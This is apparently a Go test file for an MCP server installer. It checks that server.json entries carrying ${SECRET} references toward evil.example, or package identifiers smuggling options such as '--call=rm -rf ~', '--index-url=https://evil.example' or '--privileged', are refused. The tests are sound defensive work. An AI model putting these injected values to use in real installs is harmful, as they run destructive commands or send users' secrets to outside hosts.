package plan_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rogpeppe/go-internal/txtar"

	"github.com/mcpvisor/mcpvisor/messages"
	"github.com/mcpvisor/mcpvisor/supervisor/install/plan"
)

func only(programs ...string) plan.Machine {
	return plan.Machine{OS: "linux", Home: "/home/ann", Has: func(p string) bool {
		for _, program := range programs {
			if p == program {
				return true
			}
		}
		return false
	}}
}

// everything is a machine that has each program.
var everything = plan.Machine{OS: "linux", Home: "/home/ann"}

// testInput is the "given" part of a story: what the person gave, and what they would answer.
type testInput struct {
	Package string
	Env     map[string]string
	Headers map[string]string
	Args    map[string][]string
	Answers map[string]string
}

// TestDocuments tells in testdata/*.txtar what becomes of server.json documents in every shape. Each file is a prose head
// and stories of three parts: NAME/server.json, NAME/given (which may be left out) and NAME/want, which -update rewrites.
func TestDocuments(t *testing.T) {
	files, err := filepath.Glob("testdata/*.txtar")
	if err != nil || len(files) == 0 {
		t.Fatal(files, err)
	}
	for _, file := range files {
		t.Run(strings.TrimSuffix(filepath.Base(file), ".txtar"), func(t *testing.T) { documents(t, file) })
	}
}

func documents(t *testing.T, file string) {
	archive, err := txtar.ParseFile(file)
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]*txtar.File{}
	for i := range archive.Files {
		parts[archive.Files[i].Name] = &archive.Files[i]
	}
	count := 0
	for i := range archive.Files {
		story, part, _ := strings.Cut(archive.Files[i].Name, "/")
		if part != "want" {
			continue
		}
		count++
		var g testInput
		if p := parts[story+"/given"]; p != nil {
			if err := json.Unmarshal(p.Data, &g); err != nil {
				t.Fatalf("%s: %v", story, err)
			}
		}
		got := tell(parts[story+"/server.json"].Data, g)
		if *update {
			archive.Files[i].Data = []byte(got)
		} else if want := string(archive.Files[i].Data); got != want {
			t.Errorf("%s:\n%s\nwant:\n%s", story, got, want)
		}
	}
	if count == 0 {
		t.Error("the file tells nothing")
	}
	if *update {
		if err := os.WriteFile(file, txtar.Format(archive), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// tell is the story of one document: what was asked for, and the entry or the error.
func tell(document []byte, g testInput) string {
	var b strings.Builder
	fail := func(err error) string {
		fmt.Fprintln(&b, "error:", err)
		return b.String()
	}
	s, err := plan.Read(document)
	if err != nil {
		return fail(err)
	}
	c, err := plan.Choose(&s, g.Package, everything)
	if err != nil {
		return fail(err)
	}
	fmt.Fprintln(&b, "takes:", c.Reason)
	fill := plan.ValueSource{GivenValues: plan.GivenValues{Env: g.Env, Headers: g.Headers, Args: g.Args}}
	fill.Ask = func(in plan.Input) ([]string, error) {
		secret := ""
		if in.Secret {
			secret = " (secret)"
		}
		fmt.Fprintf(&b, "asks: %s%s\n", in.Label(), secret)
		if v, ok := g.Answers[in.Name]; ok {
			return []string{v}, nil
		}
		return plan.Defaults(in)
	}
	r, err := plan.Build(c.Way, fill, everything, nil)
	if err != nil {
		return fail(err)
	}
	text, err := json.MarshalIndent(r.Spec, "", "  ")
	if err != nil {
		return fail(err)
	}
	fmt.Fprintln(&b, string(text))
	for _, n := range r.Notes {
		fmt.Fprintln(&b, "note:", n)
	}
	return b.String()
}

// TestNoPublishersWordIsAReference: the entry is expanded when it is read, so that a document with ${…} in whatever gets
// into it would read the person's environment: each place is refused, and so is a reference that two values make up.
func TestNoPublishersWordIsAReference(t *testing.T) {
	for name, pkg := range map[string]string{
		"an environment variable":  `{"environmentVariables":[{"name":"A","value":"${SECRET}"}]}`,
		"a default":                `{"environmentVariables":[{"name":"A","default":"${SECRET}"}]}`,
		"a required default":       `{"environmentVariables":[{"name":"A","isRequired":true,"default":"x${SECRET:-y}"}]}`,
		"an argument":              `{"packageArguments":[{"type":"positional","value":"${SECRET}"}]}`,
		"a flag":                   `{"packageArguments":[{"type":"named","name":"${SECRET}"}]}`,
		"a flag with a value":      `{"packageArguments":[{"type":"named","name":"${SECRET}","value":"x"}]}`,
		"a runtime argument":       `{"runtimeArguments":[{"type":"named","name":"--x","value":"a${SECRET}"}]}`,
		"a variable":               `{"packageArguments":[{"type":"positional","value":"{v}","variables":{"v":{"value":"${SECRET}"}}}]}`,
		"a variable's default":     `{"packageArguments":[{"type":"positional","value":"{v}","variables":{"v":{"default":"${SECRET}"}}}]}`,
		"two variables":            `{"packageArguments":[{"type":"positional","value":"{d}{y}","variables":{"d":{"value":"$"},"y":{"value":"{SECRET}"}}}]}`,
		"the place of the package": `{"registryBaseUrl":"https://${SECRET}.example"}`,
	} {
		doc := `{"name":"a/b","version":"1","packages":[` +
			strings.Replace(pkg, "{", `{"registryType":"npm","identifier":"x","version":"1","transport":{"type":"stdio"},`, 1) + `]}`
		s, err := plan.Read([]byte(doc))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if r, err := plan.Build(s.Ways()[0], plan.ValueSource{}, everything, nil); !errors.Is(err, plan.ErrUnusable) {
			t.Errorf("%s: %+v, %v", name, r.Spec, err)
		}
	}
	for name, remote := range map[string]string{
		"a URL":      `{"type":"sse","url":"https://evil.example/${SECRET}"}`,
		"a header":   `{"type":"sse","url":"https://evil.example","headers":[{"name":"X","value":"${SECRET}"}]}`,
		"a variable": `{"type":"sse","url":"https://evil.example/{v}","variables":{"v":{"value":"${SECRET}"}}}`,
	} {
		s, err := plan.Read([]byte(`{"name":"a/b","version":"1","remotes":[` + remote + `]}`))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if r, err := plan.Build(s.Ways()[0], plan.ValueSource{}, everything, nil); !errors.Is(err, plan.ErrUnusable) {
			t.Errorf("%s: %+v, %v", name, r.Spec, err)
		}
	}
}

// TestIdentifiersAreNoOptions: what stands in the place of the package is its name, never an option, a path or a URL.
func TestIdentifiersAreNoOptions(t *testing.T) {
	for _, c := range []struct{ kind, identifier, version string }{
		{"npm", "--call=rm -rf ~", "1"}, {"npm", "-y", ""}, {"npm", "https://evil.example/x.tgz", ""}, {"npm", "../x", "1"},
		{"npm", "github:evil/x", ""}, {"npm", "file:/tmp/x", ""}, {"npm", "x", "1 || 2"}, {"npm", "x", "npm:evil@1"}, {"npm", "", "1"},
		{"pypi", "--index-url=https://evil.example", ""}, {"pypi", "git+https://evil.example/x", ""}, {"pypi", "x y", ""},
		{"nuget", "-x", "1"}, {"nuget", "x", "--source=https://evil.example"}, {"cargo", "/bin/sh", ""}, {"cargo", "-x", ""},
		{"oci", "--privileged", ""}, {"oci", "a b", ""}, {"oci", "https://evil.example/x", ""}, {"oci", "x", "1 --privileged"},
		{"oci", "x@sha256:12", ""}, {"oci", "", ""},
	} {
		way := plan.Way{Kind: c.kind, Package: &plan.Package{RegistryType: c.kind, Identifier: c.identifier, Version: c.version,
			Transport: plan.Transport{Type: "stdio"}}}
		if r, err := plan.Build(way, plan.ValueSource{}, everything, nil); !errors.Is(err, plan.ErrUnusable) {
			t.Errorf("%+v: %q %q, %v", c, r.Spec.Command, r.Spec.Args, err)
		}
	}
}

// TestSecretsAreInNoErrorAndNoNote: values that a person gave stay in the spec, whatever goes wrong after them.
func TestSecretsAreInNoErrorAndNoNote(t *testing.T) {
	const canary = "canary-0123456789"
	secret := plan.Field{IsSecret: true, IsRequired: true}
	number := secret
	number.Format = "number"
	choices := secret
	choices.Choices = []string{"a", "b"}
	ask := func(plan.Input) ([]string, error) { return []string{canary}, nil }
	line := func(plan.Input) ([]string, error) { return []string{canary + "\r\nX: y"}, nil }
	for name, c := range map[string]struct {
		pkg plan.Package
		ask func(plan.Input) ([]string, error)
	}{
		"env":      {plan.Package{EnvironmentVariables: []plan.KeyValue{{Field: secret, Name: "TOKEN"}}}, ask},
		"number":   {plan.Package{EnvironmentVariables: []plan.KeyValue{{Field: number, Name: "TOKEN"}}}, ask},
		"choices":  {plan.Package{EnvironmentVariables: []plan.KeyValue{{Field: choices, Name: "TOKEN"}}}, ask},
		"argument": {plan.Package{PackageArguments: []plan.Argument{{Field: secret, Type: "named", Name: "--token"}}}, ask},
		"served": {plan.Package{EnvironmentVariables: []plan.KeyValue{{Field: secret, Name: "TOKEN"}},
			PackageArguments: []plan.Argument{{Field: secret, Type: "named", Name: "--token"}},
			Transport:        plan.Transport{Type: "streamable-http", URL: "http://localhost:1/mcp"}}, ask},
		"positional": {plan.Package{PackageArguments: []plan.Argument{{Field: secret, Type: "positional", ValueHint: "key"}},
			Transport: plan.Transport{Type: "streamable-http", URL: "http://localhost:1/mcp"}}, ask},
		"url": {plan.Package{EnvironmentVariables: []plan.KeyValue{{Field: secret, Name: "TOKEN"}},
			Transport: plan.Transport{Type: "streamable-http", URL: "nothing://{TOKEN}"}}, ask},
		"header": {plan.Package{Transport: plan.Transport{Type: "sse", URL: "http://localhost/",
			Headers: []plan.KeyValue{{Field: secret, Name: "TOKEN"}}}}, line},
	} {
		c.pkg.RegistryType, c.pkg.Identifier, c.pkg.Version = plan.NPM, "x", "1"
		r, err := plan.Build(plan.Way{Kind: plan.NPM, Package: &c.pkg}, plan.ValueSource{Ask: c.ask}, everything, nil)
		if text := fmt.Sprint(err, r.Notes); strings.Contains(text, "canary") {
			t.Errorf("%s: %s", name, text)
		}
		var e *messages.Error
		if err != nil && !errors.As(err, &e) {
			t.Errorf("%s: %T", name, err)
		}
	}
}

func TestTheChoiceDependsOnTheMachine(t *testing.T) {
	doc := `{"name":"a/b","version":"1","packages":[
		{"registryType":"pypi","identifier":"py","version":"1","transport":{"type":"stdio"}},
		{"registryType":"npm","identifier":"served","version":"1","transport":{"type":"streamable-http","url":"http://localhost:1"}},
		{"registryType":"npm","identifier":"js","version":"1","transport":{"type":"stdio"}},
		{"registryType":"oci","identifier":"img:1","transport":{"type":"stdio"}}],
		"remotes":[{"type":"sse","url":"https://h/sse"},{"type":"streamable-http","url":"https://h/mcp"}]}`
	s, err := plan.Read([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		m          plan.Machine
		want, text string
	}{
		{everything, "", "pypi package py 1, the first package whose program (uvx) is installed"},
		{only("npx", "docker"), "", "npm package js 1, the first package whose program (npx) is installed"},
		{only("podman"), "", "oci package img:1, the first package whose program (podman) is installed"},
		{only(), "", "remote streamable-http https://h/mcp, a remote, because no package can run here as it is"},
		{only(), "oci", "oci package img:1, as asked for"},
		{only(), "npm", "npm package js 1, although npx is not installed"},
		{only("npx"), "npm:served", "npm package served 1, as asked for"},
		{everything, "remote", "remote streamable-http https://h/mcp, a remote, because no package can run here as it is"},
		{everything, "remote:sse", "remote sse https://h/sse, as asked for"},
	} {
		got, err := plan.Choose(&s, c.want, c.m)
		if err != nil || got.Reason != c.text || len(got.Others) != 5 {
			t.Errorf("%s: %q, %v", c.want, got.Reason, err)
		}
	}
	for _, want := range []string{"mcpb", "npm:other", "nonsense", "remote:https://elsewhere"} {
		if got, err := plan.Choose(&s, want, everything); !errors.Is(err, plan.ErrUnusable) {
			t.Errorf("%s: %q, %v", want, got.Reason, err)
		}
	}
}
